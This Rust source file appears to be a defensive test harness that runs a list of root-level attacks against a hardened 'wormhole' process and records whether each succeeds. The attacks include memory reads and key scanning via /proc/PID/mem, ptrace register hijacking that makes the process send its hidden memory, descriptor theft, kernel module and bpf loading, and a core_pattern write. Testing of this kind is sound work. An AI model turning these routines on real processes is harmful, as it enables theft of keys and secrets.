//! The attacks: each tries one way to a running wormhole and says what came of it.

#![allow(clippy::indexing_slicing, reason = "a test that is wrong fails, as it should")]

use std::ffi::c_long;
use std::fs::{File, OpenOptions};
use std::io::{self, IoSlice, Write as _};
use std::mem::MaybeUninit;
use std::os::fd::AsFd as _;
use std::os::unix::fs::{FileExt as _, MetadataExt as _};
use std::path::{Path, PathBuf};
use std::time::Duration;

use ravelin_wormhole::frame::{Frame, REQUEST_BYTES};
use rustix::fs::{CWD, FileType, Mode};
use rustix::io::Errno;
use rustix::net::{
    AddressFamily, SendAncillaryBuffer, SendAncillaryMessage, SendFlags, SocketFlags, SocketType,
};
use rustix::process::{Pid, PidfdFlags, PidfdGetfdFlags, Resource, Signal};
use rustix::thread::LinkNameSpaceType;

use crate::raw::{at, call};

/// The wormhole that is attacked, as far as a root that looked around knows it.
pub(crate) struct Target {
    pub(crate) pid: i32,
    /// In its ordinary memory: where its stack begins.
    pub(crate) ordinary: u64,
    /// In its hidden memory; equal to `ordinary` where there is none or nobody may know.
    pub(crate) hidden: u64,
    /// The descriptor of one of its connections, by its number there.
    pub(crate) connection: i32,
    pub(crate) state: PathBuf,
    pub(crate) program: PathBuf,
    /// Secrets of its key: what a reader of memory looks for.
    pub(crate) needles: Vec<[u8; 32]>,
    /// The last answer in some session: who finds the key of its MAC can speak in that session.
    pub(crate) answer: Frame,
}

/// What came of an attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Outcome {
    /// It worked, with what result.
    Got(String),
    /// The wormhole or the kernel withstood.
    Denied(String),
    /// This kernel has no such thing, so nothing is known.
    Absent(String),
}

/// What an attack would break.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Aim {
    /// The wormhole's guarantees, at once. A reduced payload must be denied.
    Truth,
    /// That it runs: it may stop, and never lies.
    Life,
    /// What will run as the wormhole or as root some day.
    Later,
}

/// What only some kernels refuse: the wormhole says whether its own does.
pub(crate) const PASS: &str = "pass it a descriptor to close";

pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) aim: Aim,
    pub(crate) run: fn(&Target) -> io::Result<String>,
}

const fn attack(name: &'static str, aim: Aim, run: fn(&Target) -> io::Result<String>) -> Attack {
    Attack { name, aim, run }
}

/// Every attack. The last ones change the attacker or end the target.
pub(crate) const ATTACKS: &[Attack] = &[
    attack("read /proc/PID/maps", Aim::Truth, read_maps),
    attack("read /proc/PID/mem, ordinary", Aim::Truth, |t| read_mem(t, t.ordinary)),
    attack("read /proc/PID/mem, hidden", Aim::Truth, |t| read_mem(t, t.hidden)),
    attack("search memory for its key", Aim::Truth, search_for_key),
    attack("search memory for a session's", Aim::Truth, search_for_session),
    attack("write /proc/PID/mem", Aim::Truth, write_mem),
    attack("process_vm_readv, ordinary", Aim::Truth, |t| read_process(t, t.ordinary)),
    attack("process_vm_readv, hidden", Aim::Truth, |t| read_process(t, t.hidden)),
    attack("ptrace", Aim::Truth, |t| traced(t, |_| Ok("attached and stopped".into()))),
    attack("ptrace, have it send hidden", Aim::Truth, |t| traced(t, send_hidden)),
    attack("pidfd_getfd of a connection", Aim::Truth, take_descriptor),
    attack("follow /proc/PID/fd", Aim::Truth, read_descriptor),
    attack("checkpoint: map_files", Aim::Truth, map_files),
    attack("perf_event_open on it", Aim::Truth, perf),
    attack("bpf: load a kernel probe", Aim::Truth, bpf),
    attack("load a kernel module", Aim::Truth, load_module),
    attack("kexec", Aim::Truth, kexec),
    attack("open /dev/mem", Aim::Truth, |_| open(Path::new("/dev/mem"))),
    attack("ports of the machine (iopl)", Aim::Truth, ports),
    attack("mknod of its disk, and read", Aim::Truth, disk),
    attack("read its key file", Aim::Truth, |t| open(&t.state.join("key"))),
    attack("write into its state directory", Aim::Truth, |t| create(&t.state)),
    attack("packet socket", Aim::Truth, |_| socket(AddressFamily::PACKET)),
    attack("raw socket", Aim::Truth, |_| socket(AddressFamily::INET)),
    attack("set its processors", Aim::Life, processors),
    attack("set its limits", Aim::Life, limits),
    attack("make it first to die of memory", Aim::Life, first_to_die),
    attack("replace its program file", Aim::Later, |t| create(parent(&t.program))),
    attack("write into /etc", Aim::Later, |_| create(Path::new("/etc"))),
    attack("open core_pattern for writing", Aim::Later, core_pattern),
    attack(PASS, Aim::Life, pass_descriptor),
    attack("enter its network namespace", Aim::Truth, enter_network),
    attack("kill", Aim::Life, kill),
];

impl Attack {
    pub(crate) fn try_on(&self, target: &Target) -> Outcome {
        match (self.run)(target) {
            Ok(what) => Outcome::Got(what),
            Err(error) => match error.raw_os_error().map(Errno::from_raw_os_error) {
                Some(Errno::NOSYS | Errno::NOENT | Errno::NXIO) => Outcome::Absent(short(&error)),
                _ => Outcome::Denied(short(&error)),
            },
        }
    }
}

fn short(error: &io::Error) -> String {
    let text = error.to_string();
    text.split(" (os error").next().unwrap_or_default().to_owned()
}

fn proc(target: &Target, file: &str) -> PathBuf {
    PathBuf::from(format!("/proc/{}/{file}", target.pid))
}

fn pid(target: &Target) -> Pid {
    Pid::from_raw(target.pid).expect("a process has a number")
}

fn parent(path: &Path) -> &Path {
    path.parent().expect("a file is in a directory")
}

/// The number of a system call on this machine.
const fn number(x86_64: c_long, aarch64: c_long) -> c_long {
    if cfg!(target_arch = "x86_64") { x86_64 } else { aarch64 }
}

fn read_maps(target: &Target) -> io::Result<String> {
    let maps = std::fs::read_to_string(proc(target, "maps"))?;
    Ok(format!("{} mappings", maps.lines().count()))
}

fn read_mem(target: &Target, address: u64) -> io::Result<String> {
    let mut bytes = [0; 32];
    File::open(proc(target, "mem"))?.read_exact_at(&mut bytes, address)?;
    Ok("read".into())
}

fn write_mem(target: &Target) -> io::Result<String> {
    let mem = OpenOptions::new().read(true).write(true).open(proc(target, "mem"))?;
    let mut byte = [0; 1];
    mem.read_exact_at(&mut byte, target.ordinary)?;
    mem.write_all_at(&byte, target.ordinary)?; // the same byte: it must go on
    Ok("written".into())
}

/// Looks for the key wherever it can read: found nowhere is what hidden memory is for.
fn search_for_key(target: &Target) -> io::Result<String> {
    search(target, |bytes| {
        let holds =
            |needle: &&[u8; 32]| bytes.windows(32).any(|window| window == needle.as_slice());
        target.needles.iter().filter(holds).count()
    })
}

/// Tries every place that can be written as the key of a recorded answer.
fn search_for_session(target: &Target) -> io::Result<String> {
    let (said, mac) = target.answer.split_at(480);
    search(target, |bytes| {
        let words = bytes.windows(32).step_by(4).map(|key| key.try_into().expect("32 bytes"));
        let keys =
            words.filter(|key: &[u8; 32]| key.iter().filter(|byte| **byte != 0).count() > 16);
        keys.filter(|key| blake3::keyed_hash(key, said).as_bytes() == mac).count()
    })
}

fn search(target: &Target, hits: impl Fn(&[u8]) -> usize) -> io::Result<String> {
    let maps = std::fs::read_to_string(proc(target, "maps"))?;
    let mem = File::open(proc(target, "mem"))?;
    let (mut searched, mut found) = (0, Vec::new());
    for line in maps.lines().filter(|line| line.contains(" rw")) {
        let range = line.split(' ').next().and_then(|range| range.split_once('-'));
        let Some((start, end)) = range else { continue };
        let hex = |text| u64::from_str_radix(text, 16).map_err(io::Error::other);
        let (start, end) = (hex(start)?, hex(end)?);
        let mut bytes = vec![0; (end - start) as usize];
        if mem.read_exact_at(&mut bytes, start).is_ok() {
            searched += bytes.len();
            found.extend((0..hits(&bytes)).map(|_| line.to_owned()));
        }
    }
    match found.first() {
        Some(place) => Ok(format!("found {} times, first in {place}", found.len())),
        None => Err(io::Error::other(format!("not in {} KiB", searched >> 10))),
    }
}

fn read_process(target: &Target, address: u64) -> io::Result<String> {
    let mut bytes = [0_u8; 32];
    let mut local = [at(&mut bytes), bytes.len()];
    let mut remote = [address as usize, bytes.len()];
    let readv = number(310, 270);
    call(readv, [target.pid as usize, at(&mut local), 1, at(&mut remote), 1, 0])?;
    Ok("read".into())
}

/// Numbers of `ptrace`.
const SEIZE: usize = 0x4206;
const INTERRUPT: usize = 0x4207;
const DETACH: usize = 17;
const GETREGS: usize = 12;
const SETREGS: usize = 13;
const SINGLESTEP: usize = 9;

fn trace(target: &Target, request: usize, argument: usize) -> io::Result<usize> {
    call(number(101, 117), [request, target.pid as usize, 0, argument, 0, 0])
}

fn wait(target: &Target) -> io::Result<()> {
    let follow_children_of_any_kind = 0x4000_0000;
    call(number(61, 260), [target.pid as usize, 0, follow_children_of_any_kind, 0, 0, 0])?;
    Ok(())
}

/// Stops the wormhole as a debugger does, does something to it, and lets it go.
fn traced(target: &Target, act: fn(&Target) -> io::Result<String>) -> io::Result<String> {
    trace(target, SEIZE, 0)?;
    trace(target, INTERRUPT, 0)?;
    wait(target)?;
    let result = act(target);
    trace(target, DETACH, 0)?;
    result
}

/// Has the stopped wormhole itself send its hidden memory: one of the calls that it may make.
fn send_hidden(target: &Target) -> io::Result<String> {
    if !cfg!(target_arch = "x86_64") {
        return Err(Errno::NOSYS.into());
    }
    let mut registers = [0_u64; 27];
    trace(target, GETREGS, at(&mut registers))?;
    let mut changed = registers;
    // In the order of the kernel's `user_regs_struct`. It waits in `ppoll`, so the two bytes before
    // its instruction pointer make a system call.
    let (r10, r9, r8, rax, rdx, rsi, rdi, original, rip) = (7, 8, 9, 10, 12, 13, 14, 15, 16);
    let (send, do_not_wait) = (44, 0x40);
    changed[rax] = send;
    changed[original] = u64::MAX; // no call to begin anew
    changed[rdi] = target.connection as u64;
    changed[rsi] = target.hidden;
    changed[rdx] = 32;
    changed[r10] = do_not_wait;
    changed[r8] = 0;
    changed[r9] = 0;
    changed[rip] -= 2;
    trace(target, SETREGS, at(&mut changed))?;
    trace(target, SINGLESTEP, 0)?;
    wait(target)?;
    let mut after = [0_u64; 27];
    trace(target, GETREGS, at(&mut after))?;
    trace(target, SETREGS, at(&mut registers))?;
    match after[rax] as i64 {
        sent @ 0.. => Ok(format!("{sent} hidden bytes sent")),
        error => Err(io::Error::from_raw_os_error(-error as i32)),
    }
}

fn take_descriptor(target: &Target) -> io::Result<String> {
    let process = rustix::process::pidfd_open(pid(target), PidfdFlags::empty())?;
    let flags = PidfdGetfdFlags::empty();
    rustix::process::pidfd_getfd(process, target.connection, flags)?;
    Ok("taken".into())
}

fn read_descriptor(target: &Target) -> io::Result<String> {
    let link = proc(target, "fd").join(target.connection.to_string());
    Ok(std::fs::read_link(link)?.display().to_string())
}

fn map_files(target: &Target) -> io::Result<String> {
    let mut count = 0;
    for entry in std::fs::read_dir(proc(target, "map_files"))? {
        std::fs::read_link(entry?.path())?;
        count += 1;
    }
    Ok(format!("{count} mappings"))
}

fn perf(target: &Target) -> io::Result<String> {
    // Software clock, the user's part only: what needs the least rights.
    let mut attributes = [0_u32; 32];
    attributes[0] = 1;
    attributes[1] = 128;
    attributes[10] = 1 << 5 | 1 << 6; // neither kernel nor hypervisor
    let any_processor_no_group = usize::MAX;
    let open = number(298, 241);
    let (pid, any) = (target.pid as usize, any_processor_no_group);
    call(open, [at(&mut attributes), pid, any, any, 0, 0])?;
    Ok("watched".into())
}

fn bpf(_: &Target) -> io::Result<String> {
    let mut program = [0x0000_0000_0000_00b7_u64, 0x0000_0000_0000_0095]; // return 0
    let mut license = *b"GPL\0";
    let (load, kernel_probe) = (5, 2);
    let mut attributes = [0_u64; 16];
    attributes[0] = kernel_probe | 2 << 32;
    attributes[1] = at(&mut program) as u64;
    attributes[2] = at(&mut license) as u64;
    call(number(321, 280), [load, at(&mut attributes), size_of_val(&attributes), 0, 0, 0])?;
    Ok("loaded".into())
}

/// A call whose rights are checked before its arguments, which are wrong: nothing happens to the host.
fn permitted(result: io::Result<usize>, refusals: &[Errno]) -> io::Result<String> {
    match result {
        Err(error) if refusals.contains(&Errno::from_io_error(&error).unwrap_or(Errno::PERM)) => {
            Ok(format!("permitted ({})", short(&error)))
        }
        Err(error) => Err(error),
        Ok(_) => Ok("permitted".into()),
    }
}

fn load_module(_: &Target) -> io::Result<String> {
    let mut parameters = [0_u8; 1];
    let loaded = call(number(175, 105), [0, 0, at(&mut parameters), 0, 0, 0]);
    permitted(loaded, &[Errno::NOEXEC, Errno::FAULT, Errno::INVAL])
}

fn kexec(_: &Target) -> io::Result<String> {
    let wrong_flags = 0xffff;
    let loaded = call(number(246, 104), [0, 0, 0, wrong_flags, 0, 0]);
    permitted(loaded, &[Errno::INVAL])
}

fn ports(_: &Target) -> io::Result<String> {
    if !cfg!(target_arch = "x86_64") {
        return Err(Errno::NOSYS.into());
    }
    call(172, [3, 0, 0, 0, 0, 0])?;
    Ok("opened".into())
}

fn disk(target: &Target) -> io::Result<String> {
    let device = std::fs::metadata(&target.program)?.dev();
    let node = std::env::temp_dir().join(format!("wormhole-disk-{}", std::process::id()));
    let (kind, mode) = (FileType::BlockDevice, Mode::RUSR | Mode::WUSR);
    rustix::fs::mknodat(CWD, &node, kind, mode, device)?;
    let opened = open(&node);
    std::fs::remove_file(&node)?;
    opened
}

fn open(path: &Path) -> io::Result<String> {
    File::open(path).map(|_| "opened".into())
}

fn create(directory: &Path) -> io::Result<String> {
    let path = directory.join(format!("wormhole-attack-{}", std::process::id()));
    File::create(&path)?;
    std::fs::remove_file(&path)?;
    Ok("written".into())
}

fn socket(family: AddressFamily) -> io::Result<String> {
    let icmp = rustix::net::ipproto::ICMP;
    let protocol = Some(icmp).filter(|_| family == AddressFamily::INET);
    rustix::net::socket_with(family, SocketType::RAW, SocketFlags::CLOEXEC, protocol)?;
    Ok("made".into())
}

fn processors(target: &Target) -> io::Result<String> {
    let set = rustix::thread::sched_getaffinity(Some(pid(target)))?;
    rustix::thread::sched_setaffinity(Some(pid(target)), &set)?;
    Ok("set".into())
}

fn limits(target: &Target) -> io::Result<String> {
    let own = rustix::process::getrlimit(Resource::Nofile);
    rustix::process::prlimit(Some(pid(target)), Resource::Nofile, own)?;
    Ok("set".into())
}

fn first_to_die(target: &Target) -> io::Result<String> {
    OpenOptions::new().write(true).open(proc(target, "oom_score_adj"))?.write_all(b"1000")?;
    Ok("set".into())
}

/// Names a program that runs as full root at the next crash. Opening it for writing changes nothing.
fn core_pattern(_: &Target) -> io::Result<String> {
    OpenOptions::new().write(true).open("/proc/sys/kernel/core_pattern").map(|_| "opened".into())
}

/// Any descriptor will do: one of a socket that lingers would hold up whoever closes it.
fn pass_descriptor(_: &Target) -> io::Result<String> {
    let own = io::stdin();
    let descriptors = [own.as_fd()];
    let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut control = SendAncillaryBuffer::new(&mut space);
    control.push(SendAncillaryMessage::ScmRights(&descriptors));
    let frame = [0; REQUEST_BYTES];
    rustix::net::sendmsg(&own, &[IoSlice::new(&frame)], &mut control, SendFlags::NOSIGNAL)?;
    Ok("sent".into())
}

fn enter_network(target: &Target) -> io::Result<String> {
    let namespace = File::open(proc(target, "ns/net"))?;
    rustix::thread::move_into_link_name_space(namespace.as_fd(), Some(LinkNameSpaceType::Network))?;
    Ok("entered".into())
}

fn kill(target: &Target) -> io::Result<String> {
    rustix::process::kill_process(pid(target), Signal::KILL)?;
    for _ in 0..100 {
        let stat = std::fs::read_to_string(proc(target, "stat")).unwrap_or_default();
        if stat.is_empty() || stat.contains(") Z ") {
            return Ok("dead".into());
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    Err(io::Error::other("it lives on"))
}
